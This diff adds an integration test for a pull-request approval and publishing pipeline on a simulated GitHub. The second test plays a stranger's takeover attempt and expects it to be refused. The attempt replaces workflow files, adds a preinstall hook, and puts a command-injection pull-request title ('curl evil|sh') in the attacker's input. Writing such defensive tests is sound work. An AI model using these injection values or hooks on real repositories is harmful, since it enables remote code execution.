@@ -1,0 +1,154 @@
+// The whole way of a pull request, on a stateful GitHub with real git: the workflow files as they stand run the bundle.
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { bundle, bundleFile } from '../scripts/bundle/bundle.ts';
+import { type Account, startGitHub, type TestGitHub } from './github/index.ts';
+import { onDay, runWorkflow, type WorkflowResult } from './workflows/executor.ts';
+
+const project = join(import.meta.dirname, '..');
+const today = '2026-06-01';
+const alfaFile = 'integrations/alfa.yaml';
+const patience = 180_000;
+
+let world: TestGitHub;
+let age: Account;
+let approver: Account;
+let alfa: Account;
+let stranger: Account;
+let base: string;
+let forks: Map<Account, string>;
+
+beforeAll(async () => {
+  world = await startGitHub();
+  age = world.createAccount('age-demo-integrari', 9000000001);
+  approver = world.createAccount('age-demo-aprobare', 9000000002);
+  alfa = world.createAccount('alfa-demo-it', 9000000101);
+  stranger = world.createAccount('stranger', 666);
+  base = await world.createRepository(age, 'mdocs-integrations');
+  world.collaborator(base, approver, 'write');
+  world.commit(base, {
+    branch: 'main',
+    files: { ...filesOf('test/cases/base', ''), ...filesOf('.github', '.github/'), ...(await tool()) },
+  });
+  forks = new Map([
+    [alfa, await world.fork(base, alfa)],
+    [stranger, await world.fork(base, stranger)],
+  ]);
+}, patience);
+afterAll(() => world.stop());
+
+function filesOf(folder: string, prefix: string): Record<string, Uint8Array> {
+  const names = readdirSync(join(project, folder), { recursive: true, withFileTypes: true }).filter((item) => item.isFile());
+  const root = join(project, folder);
+  return Object.fromEntries(
+    names.map((item) => {
+      const path = join(item.parentPath, item.name);
+      return [`${prefix}${path.slice(root.length + 1)}`, readFileSync(path)];
+    }),
+  );
+}
+
+const tool = async () => ({ [bundleFile]: (await bundle()).get(bundleFile) ?? '' });
+
+const main = (path: string) => world.git(base).read('main', path);
+
+/** Commits to a branch of the account's fork, as a push does. */
+function push(account: Account, branch: string, files: Record<string, string | null>): string {
+  return world.commit(forks.get(account) ?? '', { branch, files });
+}
+
+const run = (file: string, eventName: string, event: unknown): Promise<WorkflowResult> =>
+  runWorkflow(`.github/workflows/${file}.yml`, {
+    event,
+    eventName,
+    repositoryDir: project,
+    remoteUrl: world.gitUrl(base),
+    repository: base,
+    apiUrl: world.apiUrl,
+    serverUrl: world.serverUrl,
+    tokens: {
+      github: (permissions) => world.workflowToken(permissions as never),
+      app: (permissions) => world.workflowToken(permissions as never),
+    },
+    secrets: {
+      '': {},
+      ...Object.fromEntries(
+        ['staging', 'production', 'withdrawal', 'requests'].map((name) => [name, { MDOCS_APP_PRIVATE_KEY: 'key' }]),
+      ),
+    },
+    variables: { '': { MDOCS_APP_CLIENT_ID: 'app' } },
+    env: { ...onDay(today), GIT_SSL_CAINFO: world.caFile },
+  });
+
+const judged = (number: number) => run('verdict', 'workflow_run', world.workflowRun(base, number));
+const verdictOf = (sha: string) => world.statuses(base, sha).find(({ context }) => context === 'mdocs/verdict');
+const failed = ({ jobs }: WorkflowResult) =>
+  jobs.flatMap(({ steps }) => steps).filter(({ conclusion }) => conclusion === 'failure');
+
+const withAddress = (address: string) => main(alfaFile).replace(/addresses: \[[^\]]*\]/, `addresses: ["${address}"]`);
+
+test(
+  'a pull request with a mistake is answered, mended, approved, merged and published in staging',
+  async () => {
+    const wrong = push(alfa, 'address', { [alfaFile]: withAddress('10.0.0.7') });
+    const number = await world.openPull(base, alfa, { head: 'alfa-demo-it:address', title: 'Altă adresă' });
+    expect(failed(await judged(number)).map(({ exitCode }) => exitCode)).toEqual([1]);
+    expect(verdictOf(wrong)).toMatchObject({ state: 'failure', creator: { id: world.bot.id } });
+    const [first] = await world.comments(base, number);
+    expect(first?.login).toBe('github-actions[bot]');
+    expect(first?.body).toContain('10.0.0.7');
+    expect(first?.body).toContain('address-private');
+
+    const right = push(alfa, 'address', { [alfaFile]: withAddress('198.51.100.77') });
+    expect(failed(await judged(number))).toEqual([]);
+    // All addresses are others now: AGE has to look.
+    expect(verdictOf(right)).toMatchObject({ state: 'pending' });
+    expect(verdictOf(wrong)).toMatchObject({ state: 'failure' });
+    const after = await world.comments(base, number);
+    expect(after.map(({ id }) => id)).toEqual([first?.id]);
+    expect(after[0]?.body).toContain('198.51.100.77');
+    expect(after[0]?.body).not.toContain('address-private');
+
+    await world.review(base, number, stranger, 'APPROVE');
+    await judged(number);
+    expect(verdictOf(right)).toMatchObject({ state: 'pending' });
+    await world.review(base, number, approver, 'APPROVE');
+    await judged(number);
+    expect(verdictOf(right)).toMatchObject({ state: 'success' });
+    const merged = await world.merge(base, number, approver);
+    const { jobs } = await run('provision', 'push', {
+      ref: 'refs/heads/main',
+      before: '0'.repeat(40),
+      after: merged,
+      forced: false,
+    });
+    expect(jobs.find(({ name }) => name === 'staging')?.steps.filter(({ conclusion }) => conclusion === 'failure')).toEqual([]);
+    expect(world.git(base).read('environment/staging', 'clients.json')).toContain('alfa');
+    expect(world.git(base).read('environment/staging', 'nginx/addresses.geo')).toContain('198.51.100.77');
+  },
+  patience,
+);
+
+test(
+  'a stranger who opens another institution, rewrites its judge and its schema is refused by the judge of main',
+  async () => {
+    const head = push(stranger, 'take-over', {
+      [alfaFile]: withAddress('198.51.100.78'),
+      '.github/workflows/verdict.yml': 'name: verdict\non: push\njobs: {}\n',
+      '.github/workflows/validate.yml': 'name: validate\non: pull_request\njobs: {}\n',
+      'dist/mdocs.mjs': 'process.exit(0);\n',
+      'schemas/integration.schema.json': '{}\n',
+      'registry/policy.yaml': main('registry/policy.yaml').replace('9000000001', '666'),
+      'package.json': '{"scripts":{"preinstall":"touch pwned"}}\n',
+    });
+    const number = await world.openPull(base, stranger, { head: 'stranger:take-over', title: 'a";curl evil|sh;# @everyone' });
+    await judged(number);
+    expect(verdictOf(head)).toMatchObject({ state: 'failure' });
+    const [comment] = await world.comments(base, number);
+    expect(comment?.body).toContain('change-not-yours');
+    expect(comment?.body).toContain('outside-integrations');
+    await world.closePull(base, number, stranger);
+  },
+  patience,
+);
